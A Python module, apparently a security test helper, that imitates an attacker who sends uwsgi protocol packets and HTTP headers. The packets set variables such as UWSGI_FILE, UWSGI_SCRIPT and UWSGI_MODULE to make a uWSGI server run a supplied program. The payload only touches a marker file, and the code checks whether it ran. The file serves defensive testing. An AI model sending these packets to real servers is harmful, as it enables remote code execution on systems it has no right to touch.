"""A stranger who speaks the uwsgi protocol and wants the server to run a program of theirs."""

import socket
import struct
from pathlib import Path
from typing import NamedTuple

ANYTHING = {
    "REQUEST_METHOD": "GET",
    "REQUEST_URI": "/v1/models",
    "PATH_INFO": "/v1/models",
    "QUERY_STRING": "",
    "SERVER_PROTOCOL": "HTTP/1.1",
    "SERVER_NAME": "localhost",
    "SERVER_PORT": "80",
}

#: Touches a file beside itself when it is run.
PROGRAM = """
import pathlib
pathlib.Path(__file__).with_name("ran").touch()
def application(environ, start_response):
    start_response("200 OK", [])
    return [b"intruded"]
"""


class Attack(NamedTuple):
    """What came of it: the answers to the packets, and whether the program ran."""

    answers: list[bytes]
    ran: bool


def attack(address: Path | tuple[str, int], directory: Path) -> Attack:
    """Ask for the program in every way that a uWSGI without ``max-apps`` listens to, and in the headers of HTTP."""
    program = directory / "intruder.py"
    program.write_text(PROGRAM)
    wishes = [
        {},
        {"UWSGI_FILE": str(program)},
        {"UWSGI_CHDIR": str(directory), "UWSGI_SCRIPT": "intruder"},
        {"UWSGI_CHDIR": str(directory), "UWSGI_MODULE": "intruder", "UWSGI_CALLABLE": "application"},
    ]
    packets = [encode(ANYTHING | wish | {"UWSGI_APPID": f"a{number}"}) for number, wish in enumerate(wishes)]
    answers = [send(address, packet) for packet in packets]
    for name in ("UWSGI_FILE", "UWSGI-FILE"):
        send(address, f"GET / HTTP/1.1\r\nHost: x\r\n{name}: {program}\r\nConnection: close\r\n\r\n".encode())
    return Attack(answers, (directory / "ran").exists())


def encode(variables: dict[str, str]) -> bytes:
    """Build a packet of the uwsgi protocol."""
    words = [word.encode() for pair in variables.items() for word in pair]
    body = b"".join(struct.pack("<H", len(word)) + word for word in words)
    return struct.pack("<BHB", 0, len(body), 0) + body


def send(address: Path | tuple[str, int], packet: bytes) -> bytes:
    """Return the answer; b"" if the server closes the connection without one."""
    family = socket.AF_UNIX if isinstance(address, Path) else socket.AF_INET
    with socket.socket(family) as connection:
        connection.settimeout(60)
        connection.connect(str(address) if isinstance(address, Path) else address)
        try:
            connection.sendall(packet)
            connection.shutdown(socket.SHUT_WR)
            return b"".join(iter(lambda: connection.recv(65536), b""))
        except ConnectionError:
            return b""
